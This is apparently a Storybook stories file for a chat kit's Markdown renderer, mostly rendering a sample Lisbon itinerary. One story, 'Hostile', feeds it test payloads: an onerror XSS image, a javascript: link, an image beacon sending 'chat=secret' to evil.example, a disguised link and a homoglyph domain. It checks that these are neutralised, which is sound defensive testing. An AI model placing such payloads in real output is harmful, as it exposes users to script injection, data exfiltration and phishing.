import type { Meta, StoryObj } from "@storybook/react-vite";
import { expect, within } from "storybook/test";
import { Chat } from "trigger-chat-kit";
import { Markdown, MarkdownText } from "trigger-chat-kit/markdown";
import { docs } from "./support/docs.ts";
import { inChat, padded, Panel } from "./support/Frame.tsx";
import { answered, said, sampleChat } from "./support/samples.ts";

const meta = {
  title: "Components/Markdown",
  parameters: docs(
    "The assistant's Markdown as elements, from `trigger-chat-kit/markdown`: no HTML of the text reaches the page, links name their real host, images of other hosts load only where `allowImage` says so. Half-open constructs never flash while the text streams. Another renderer fits in the same place: `parts={{ text: ({ part }) => <Streamdown>{part.text}</Streamdown> }}`.",
    "Markdown", "MarkdownText",
  ),
  component: Markdown,
  args: { text: "" },
  decorators: [padded, inChat()],
} satisfies Meta<typeof Markdown>;
export default meta;
type Story = StoryObj<typeof meta>;

const everything = `# Half a day in Lisbon

Start **early**: by ten the lanes of _Alfama_ are full. Take tram \`28\` and see the [timetable](https://www.carris.pt/).

## What to see

1. Miradouro da Graça
2. The cathedral, then
   - the flea market on Tuesdays
   - the river, any day
3. Lunch near the basilica

- [x] Tickets
- [ ] Comfortable shoes

> Rain comes in on Friday afternoon.

| Place | Opens | Euro |
|:------|:-----:|-----:|
| Castle | 9:00 | 15 |
| Cathedral | 9:30 | **5** |

\`\`\`ts
const plan = ["Graça", "Sé", "Estrela"].map((place) => walk(place, { pace: "slow", photographs: true, company: "good" }));
\`\`\`

---

That is all.`;

export const Everything: Story = { args: { text: everything } };

/** Half of a construct never flashes: what is open is shown closed, or waits. */
export const HalfWritten: Story = { args: { text: "Take the **tram", isStreaming: true } };

/** Nothing of the text can act: no markup, no script, no image of a stranger's host, no link in disguise. */
export const Hostile: Story = {
  args: {
    text: '<img src=x onerror="alert(1)"> [click](javascript:alert(1)) ![pixel](https://evil.example/?chat=secret) [bank.example](https://evil.example) [apple](https://аpple.com)',
  },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector("img")).toBeNull();
    await expect(within(canvasElement).getAllByText(/evil\.example/)).not.toHaveLength(0);
  },
};

export const InAChat: Story = {
  decorators: [(Story) => <Story />],
  render: () => (
    <Panel>
      <Chat
        chat={sampleChat({ messages: [said("u", "What should I see? *Not* museums."), answered("a", everything)] })}
        parts={{ text: MarkdownText }}
      />
    </Panel>
  ),
};
